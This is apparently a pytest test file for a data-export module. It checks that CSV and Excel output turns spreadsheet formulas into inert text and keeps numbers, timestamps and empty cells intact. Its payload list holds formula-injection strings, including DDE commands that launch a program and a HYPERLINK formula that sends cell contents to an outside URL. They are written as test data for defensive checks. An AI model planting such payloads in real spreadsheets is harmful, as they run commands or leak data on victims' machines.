"""Tables as bytes: nothing that a spreadsheet would run, numbers that stay numbers, missing that stays empty."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from data.formats import tabular
from data.formats.cell_texts import plain

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    "＋1",
    "－1",
    '=HYPERLINK("http://example.org/?x="&A1;"open")',
    "=IMPORTXML(CONCAT(A1),1)",
    "\ufeff=1",
)


def read(frame: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(tabular.csv_bytes(frame).decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    assert read(pd.DataFrame({"account": [payload], "n": [1]}))[1][0] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_header_cannot_be_a_formula(payload: str) -> None:
    assert read(pd.DataFrame({payload: [1], "n": [1]}))[0][0] == "'" + payload


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "difference": pd.array([-163, None, 0], dtype="Int64"),
            "share": [-0.25, None, 1 / 3],
            "seen": pd.array([True, None, False], dtype="boolean"),
            "mixed": pd.Series([-5, None, "-5"], dtype=object),
            "code": ["0417", None, "0"],
        }
    )
    assert read(frame)[1:] == [
        ["-163", "-0.25", "true", "-5", "0417"],
        ["", "", "", "", ""],
        ["0", "0.3333333333333333", "false", "'-5", "0"],
    ]


def test_instants_carry_their_offset() -> None:
    at = datetime(2029, 1, 14, 7, 5, tzinfo=UTC)
    frame = pd.DataFrame({"at": pd.to_datetime(pd.Series([at, None]), utc=True), "one": pd.Series([at, None], dtype=object)})
    assert read(frame)[1:] == [["2029-01-14T07:05:00+00:00"] * 2, ["", ""]]


@settings(max_examples=60)
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12))
def test_what_goes_in_comes_out_or_is_neutral(words: str) -> None:
    cell = read(pd.DataFrame({"a": [words], "b": ["end"]}))[1][0]
    assert cell in (words, "'" + words)
    assert not cell.startswith(tabular.FORMULA_SIGNS)


def test_a_workbook_holds_the_same_cells(tmp_path) -> None:
    frame = pd.DataFrame(
        {
            "words": [*PAYLOADS, None],
            "n": pd.array([-1] * len(PAYLOADS) + [None], dtype="Int64"),
            "at": pd.to_datetime([datetime(2029, 1, 14, tzinfo=UTC)] * (len(PAYLOADS) + 1), utc=True),
        }
    )
    path = tmp_path / "book.xlsx"
    tabular.save_xlsx({"stations": frame}, path, notes=["=note"])
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["README", "stations"]
    rows = list(book["stations"].iter_rows())
    assert [cell.value for cell in rows[0]] == ["words", "n", "at"]
    for row in rows[1:-1]:
        assert row[0].data_type in ("s", "inlineStr")
        assert str(row[0].value).startswith("'")
        assert row[1].value == -1
        assert row[2].value == "2029-01-14T00:00:00+00:00"
    assert rows[-1][0].value is None and rows[-1][1].value is None
    book.close()


def test_a_sheet_has_an_end(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(tabular, "XLSX_ROWS", 1)
    with pytest.raises(ValueError, match="more than a sheet holds"):
        tabular.save_xlsx({"stations": pd.DataFrame({"a": [1, 2]})}, tmp_path / "book.xlsx")


WORDS = st.one_of(st.none(), st.text(st.sampled_from("a=+-@\t\r\n\"', \ufeff\u00a0＝é;"), max_size=5))
NUMBERS = st.one_of(st.none(), st.integers(-(2**70), 2**70), st.floats(allow_nan=False, allow_infinity=False), st.booleans(), WORDS)


def one_by_one(frame: pd.DataFrame) -> bytes:
    """The same table by the standard library's writer, a cell at a time."""
    file = io.StringIO(newline="")
    writer = csv.writer(file, lineterminator="\r\n")
    writer.writerow(list(frame.columns))
    for row in zip(*[tabular.cells(frame[name]) for name in frame.columns], strict=True):
        writer.writerow([("true" if cell else "false") if isinstance(cell, bool) else cell for cell in row])
    return file.getvalue().encode()


@settings(max_examples=80)
@given(st.lists(st.tuples(WORDS, NUMBERS, st.one_of(st.none(), st.booleans()), st.integers(-9, 9)), max_size=6), st.integers(1, 4))
def test_lines_by_the_column_are_the_lines_of_the_usual_writer(rows: list[tuple[object, ...]], width: int) -> None:
    columns: list[pd.Series] = [pd.Series([row[place] for row in rows], dtype=object) for place in range(4)]
    frame = pd.DataFrame(dict(zip("abcd", columns[:width], strict=False)))
    assert tabular.csv_bytes(frame) == one_by_one(frame)


def test_columns_without_any_value_keep_their_rows() -> None:
    frame = pd.DataFrame({"a": [None, None], "b": pd.array([None, None], dtype="Int64")})
    assert tabular.csv_bytes(frame) == b"a,b\r\n,\r\n,\r\n"
    assert tabular.csv_bytes(frame[["a"]]) == b'a\r\n""\r\n""\r\n'


DAY = datetime(2029, 1, 14, tzinfo=UTC)
INSTANTS = st.one_of(st.none(), st.just(DAY), st.integers(-(10**15), 10**15).map(lambda moved: DAY + timedelta(microseconds=2 * moved)))


@settings(max_examples=60)
@given(
    st.lists(st.tuples(INSTANTS, st.one_of(st.none(), st.floats(), st.just(-0.0))), min_size=1, max_size=6),
    st.sampled_from(["UTC", "Asia/Almaty"]), st.sampled_from(["us", "ns", "s"]),
)  # fmt: skip
def test_typed_columns_say_what_each_of_their_values_says(rows: list[tuple[datetime | None, float | None]], zone: str, unit: str) -> None:
    """Instants with and without parts of a second, of any resolution and zone, and numbers of both kinds."""
    at = pd.Series([row[0] for row in rows], dtype="datetime64[us, UTC]").dt.tz_convert(zone).astype(f"datetime64[{unit}, {zone}]")
    numbers = [row[1] for row in rows]
    frame = pd.DataFrame({"at": at, "plain": pd.Series(numbers, dtype=float), "nullable": pd.array(numbers, dtype="Float64")})
    each = {name: [plain(value) for value in frame[name].tolist()] for name in frame.columns}
    assert read(frame)[1:] == [["" if value is None else str(value) for value in row] for row in zip(*each.values(), strict=True)]
